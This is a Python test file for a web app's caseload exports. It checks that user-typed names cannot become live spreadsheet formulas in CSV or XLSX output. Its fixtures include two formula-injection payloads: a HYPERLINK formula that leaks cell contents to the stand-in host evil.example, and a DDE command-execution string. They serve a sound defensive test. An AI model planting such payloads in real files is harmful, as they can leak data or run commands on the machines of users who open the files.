"""Formula injection: text typed by users never becomes a spreadsheet formula in exports."""

from tests.world import build_world

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1;"clic")', "@SUM(1+1)*cmd|' /C calc'!A0")


def _dangerous(value) -> bool:
    return isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_exports_neutralise_formulas(app, client):
    """Names typed by users (project, référent) reach the caseload export: a cell starting
    with ``=``, ``+``, ``-`` or ``@`` would run as a formula in a spreadsheet."""
    import csv
    import io

    from openpyxl import load_workbook

    w = build_world()
    w.project.name = FORMULAS[0]
    w.users["travailleur_social"].full_name = FORMULAS[1]
    client.login(w.users["coordinateur"])

    response = client.get("/pilotage/menages/export.csv")
    assert response.status_code == 200
    text = response.get_data(as_text=True).lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert any("SUM(1+1)" in cell for cell in cells)
    assert not [cell for cell in cells if _dangerous(cell)]

    response = client.get("/pilotage/menages/export.xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.data))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert any("HYPERLINK" in str(cell.value) for cell in cells)
    assert not [cell.value for cell in cells if cell.data_type == "f"]
